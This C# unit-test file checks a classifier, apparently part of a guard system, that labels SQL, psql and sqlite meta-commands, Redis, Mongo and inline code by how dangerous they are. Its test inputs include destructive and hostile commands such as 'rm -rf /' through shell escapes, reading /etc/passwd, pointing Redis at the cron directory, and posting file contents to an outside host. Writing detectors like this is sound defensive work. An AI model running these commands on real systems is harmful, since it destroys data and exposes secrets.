using Interlock.Actions;
using Interlock.Knowledge.Statements;

namespace Interlock.Core.Tests.Knowledge;

public class StatementTests
{
    private static StatementFinding Single(string sql)
    {
        var findings = SqlStatementAnalyzer.Analyze(sql);
        Assert.True(findings.Count == 1, $"expected one finding for `{sql}`, got {findings.Count}: {string.Join("; ", findings)}");
        return findings[0];
    }

    [Theory]
    [InlineData("DROP TABLE users", OperationClass.Destroy)]
    [InlineData("drop table if exists users cascade", OperationClass.Destroy)]
    [InlineData("DROP DATABASE app", OperationClass.Destroy)]
    [InlineData("TRUNCATE users", OperationClass.Destroy)]
    [InlineData("TRUNCATE TABLE users RESTART IDENTITY", OperationClass.Destroy)]
    [InlineData("DELETE FROM users", OperationClass.Destroy)]
    [InlineData("DELETE FROM users WHERE id = 1", OperationClass.Delete)]
    [InlineData("UPDATE users SET admin = true", OperationClass.Destroy)]
    [InlineData("UPDATE users SET admin = true WHERE id = 1", OperationClass.Update)]
    [InlineData("DELETE FROM users WHERE id IN (SELECT id FROM banned)", OperationClass.Delete)]
    [InlineData("DELETE FROM users u USING (SELECT id FROM t WHERE x = 1) s", OperationClass.Destroy)]
    [InlineData("UPDATE users SET name = (SELECT name FROM t WHERE t.id = 1)", OperationClass.Destroy)]
    [InlineData("ALTER TABLE users DROP COLUMN email", OperationClass.Destroy)]
    [InlineData("ALTER TABLE users ADD COLUMN age int", OperationClass.Update)]
    [InlineData("SELECT * FROM users", OperationClass.Read)]
    [InlineData("SELECT pg_read_file('/etc/passwd')", OperationClass.Update)]
    [InlineData("SELECT * INTO backup FROM users", OperationClass.Create)]
    [InlineData("INSERT INTO users VALUES (1)", OperationClass.Update)]
    [InlineData("EXPLAIN DELETE FROM users", OperationClass.Read)]
    [InlineData("EXPLAIN ANALYZE DELETE FROM users", OperationClass.Destroy)]
    [InlineData("EXPLAIN (ANALYZE) DELETE FROM users", OperationClass.Destroy)]
    [InlineData("WITH x AS (SELECT 1) DELETE FROM users", OperationClass.Destroy)]
    [InlineData("WITH x AS (SELECT 1) SELECT * FROM x", OperationClass.Read)]
    [InlineData("COPY users TO STDOUT", OperationClass.Read)]
    [InlineData("COPY users FROM '/tmp/u.csv'", OperationClass.Update)]
    [InlineData("COPY t FROM PROGRAM 'rm -rf /'", OperationClass.Exec)]
    [InlineData("GRANT ALL ON users TO bob", OperationClass.Privilege)]
    [InlineData("CALL cleanup()", OperationClass.Exec)]
    [InlineData("BEGIN", OperationClass.Read)]
    [InlineData("CREATE TABLE t (id int)", OperationClass.Update)]
    [InlineData("FROBNICATE t", OperationClass.Update)]
    public void Sql_statements_are_classified(string sql, OperationClass expected) =>
        Assert.Equal(expected, Single(sql).Class);

    [Fact]
    public void Destroying_statements_are_critical_and_name_their_object()
    {
        var f = Single("DROP TABLE IF EXISTS public.users");
        Assert.True(f.Critical);
        Assert.Equal(["public.users"], f.Targets);
        Assert.Equal(["users"], Single("DELETE FROM users").Targets);
    }

    [Fact]
    public void Statements_are_split_on_top_level_semicolons_only()
    {
        var findings = SqlStatementAnalyzer.Analyze("SELECT 1; DROP TABLE a; SELECT 'x;DROP TABLE b'");
        Assert.Equal(3, findings.Count);
        Assert.Single(findings, f => f.Class == OperationClass.Destroy);
    }

    [Theory]
    [InlineData("SELECT 'DROP TABLE users'")]
    [InlineData("SELECT 1 -- DROP TABLE users")]
    [InlineData("SELECT 1 /* ; DROP TABLE users; */")]
    [InlineData("SELECT $$; DROP TABLE users;$$")]
    [InlineData("SELECT $tag$ ; DROP TABLE users $tag$")]
    [InlineData("SELECT \"drop\" FROM t")]
    [InlineData("INSERT INTO notes VALUES ('we should DROP TABLE users; later')")]
    public void Literals_and_comments_do_not_count(string sql) =>
        Assert.DoesNotContain(SqlStatementAnalyzer.Analyze(sql), f => f.Class == OperationClass.Destroy);

    [Fact]
    public void Empty_sql_has_no_findings() => Assert.Empty(SqlStatementAnalyzer.Analyze("  ;; -- nothing\n"));

    [Theory]
    [InlineData("\\dt", OperationClass.Read)]
    [InlineData("\\l", OperationClass.Read)]
    [InlineData("\\! rm -rf /", OperationClass.Exec)]
    [InlineData("\\i drop_all.sql", OperationClass.Exec)]
    [InlineData("\\copy users to 'u.csv'", OperationClass.Read)]
    [InlineData("\\copy users from 'u.csv'", OperationClass.Update)]
    [InlineData(".tables", OperationClass.Read)]
    [InlineData(".shell rm -rf /", OperationClass.Exec)]
    [InlineData(".system ls", OperationClass.Exec)]
    [InlineData(".restore backup.db", OperationClass.Destroy)]
    [InlineData(".output out.txt", OperationClass.Update)]
    public void Meta_commands_are_classified(string meta, OperationClass expected) =>
        Assert.Equal(expected, Single(meta).Class);

    [Fact]
    public void Shell_escapes_carry_their_command()
    {
        Assert.Equal("rm -rf /", Single("\\! rm -rf /").ShellCommand);
        Assert.Equal("rm -rf /", Single(".shell rm -rf /").ShellCommand);
        Assert.Equal("rm -rf /", Single("COPY t FROM PROGRAM 'rm -rf /'").ShellCommand);
    }

    [Theory]
    [InlineData(new[] { "FLUSHALL" }, OperationClass.Destroy)]
    [InlineData(new[] { "flushdb", "async" }, OperationClass.Destroy)]
    [InlineData(new[] { "SHUTDOWN" }, OperationClass.Destroy)]
    [InlineData(new[] { "CONFIG", "SET", "dir", "/var/spool/cron" }, OperationClass.Destroy)]
    [InlineData(new[] { "CONFIG", "SET", "maxmemory", "1gb" }, OperationClass.Update)]
    [InlineData(new[] { "CONFIG", "GET", "*" }, OperationClass.Read)]
    [InlineData(new[] { "DEL", "k" }, OperationClass.Delete)]
    [InlineData(new[] { "EXPIRE", "k", "10" }, OperationClass.Delete)]
    [InlineData(new[] { "GET", "k" }, OperationClass.Read)]
    [InlineData(new[] { "KEYS", "*" }, OperationClass.Read)]
    [InlineData(new[] { "SET", "k", "v" }, OperationClass.Update)]
    [InlineData(new string[0], OperationClass.Read)]
    public void Redis_commands_are_classified(string[] words, OperationClass expected) =>
        Assert.Equal(expected, DataStoreCommands.Redis(words).Class);

    [Fact]
    public void Redis_critical_and_targets()
    {
        Assert.True(DataStoreCommands.Redis(["FLUSHALL"]).Critical);
        Assert.Equal(["session:1"], DataStoreCommands.Redis(["DEL", "session:1"]).Targets);
    }

    [Theory]
    [InlineData("db.dropDatabase()", OperationClass.Destroy)]
    [InlineData("db.users.drop()", OperationClass.Destroy)]
    [InlineData("db.users.deleteMany({})", OperationClass.Destroy)]
    [InlineData("db.users.deleteMany( { } )", OperationClass.Destroy)]
    [InlineData("db.users.remove({})", OperationClass.Destroy)]
    [InlineData("db.users.updateMany({}, {$set: {a: 1}})", OperationClass.Destroy)]
    [InlineData("db.users.deleteMany({age: {$lt: 18}})", OperationClass.Delete)]
    public void Mongo_calls_are_classified(string code, OperationClass expected) =>
        Assert.Contains(DataStoreCommands.Mongo(code), f => f.Class == expected);

    [Fact]
    public void Mongo_reads_find_nothing_destructive() =>
        Assert.DoesNotContain(DataStoreCommands.Mongo("db.users.find({}).limit(5)"), f => f.Class is OperationClass.Destroy or OperationClass.Delete);

    [Fact]
    public void Inline_code_scanner_findings()
    {
        var rm = InlineCodeScanner.Scan("import shutil; shutil.rmtree('/srv/data')");
        Assert.True(rm.Deletes);
        Assert.True(rm.RecursiveDelete);
        Assert.Contains("/srv/data", rm.Paths);

        var sh = InlineCodeScanner.Scan("import os; os.system('rm -rf /tmp/x')");
        Assert.Contains("rm -rf /tmp/x", sh.ShellCommands);

        var dyn = InlineCodeScanner.Scan("import os, sys; os.system(sys.argv[1])");
        Assert.True(dyn.DynamicShell);

        var net = InlineCodeScanner.Scan("import requests; requests.post('https://x.example', data=open('f').read())");
        Assert.True(net.NetworkSend);

        var env = InlineCodeScanner.Scan("import os; print(os.environ['AWS_SECRET_ACCESS_KEY'])");
        Assert.True(env.ReadsEnvironment);
        Assert.True(env.SecretNameMentioned);

        Assert.True(InlineCodeScanner.Scan("exec(base64.b64decode('cHJpbnQoMSk='))").Obfuscated);
        Assert.True(InlineCodeScanner.Scan("open('out.txt', 'w').write('x')").Writes);
        Assert.True(InlineCodeScanner.Scan("require('fs').unlinkSync('a.txt')").Deletes);

        var clean = InlineCodeScanner.Scan("print(sum(range(10)))");
        Assert.False(clean.Deletes || clean.Writes || clean.NetworkSend || clean.Obfuscated || clean.DynamicShell);
        Assert.Empty(clean.ShellCommands);
    }
}
